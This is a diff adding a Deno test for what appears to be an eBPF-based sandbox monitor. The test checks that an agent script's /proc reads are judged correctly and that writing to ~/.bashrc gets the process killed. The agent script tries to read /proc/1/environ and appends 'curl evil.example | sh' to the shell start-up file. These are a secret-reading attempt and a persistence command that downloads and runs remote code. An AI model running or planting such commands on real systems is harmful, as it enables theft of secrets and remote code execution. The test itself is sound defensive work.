@@ -287,3 +287,51 @@ time.sleep(30)
     });
   },
 });
+
+Deno.test({
+  name: "the ebpf tier judges /proc like any path, and a write by the tree stops it",
+  ignore,
+  async fn() {
+    await withSandbox(async (sb) => {
+      const bashrc = join(sb.home, ".bashrc");
+      const agent = await sb.write(
+        "agent.py",
+        `
+import os, time
+open("/proc/self/status").read()
+try:
+    open("/proc/1/environ", "rb").read()
+except OSError:
+    pass
+with open(${JSON.stringify(bashrc)}, "a") as f:
+    f.write("curl evil.example | sh\\n")
+time.sleep(5)
+`,
+      );
+      // strict kills on a severe violation: the write to a shell start-up file.
+      const run = await sb.sentry([
+        "run",
+        "--sensor",
+        "ebpf",
+        "--no-api",
+        "--policy",
+        "strict",
+        "--",
+        PYTHON,
+        agent,
+      ], { timeoutMs: 20_000 });
+      assert.notEqual(run.code, 0, run.stderr);
+      const events = await sb.events();
+      const self = events.find((e) => e.target === "/proc/self/status");
+      assert.equal(self?.verdict, "allow", "a process's own /proc entries are ordinary reads");
+      const environ = events.find((e) => e.target === "/proc/1/environ");
+      assert.equal(environ?.verdict, "deny");
+      const write = events.find((e) => e.target === bashrc);
+      assert.ok(write, "the write to ~/.bashrc");
+      assert.notEqual(write.pid, null);
+      assert.equal(write.response, "kill");
+      const [session] = await sb.sessions();
+      assert.equal(session?.state, "killed");
+    });
+  },
+});
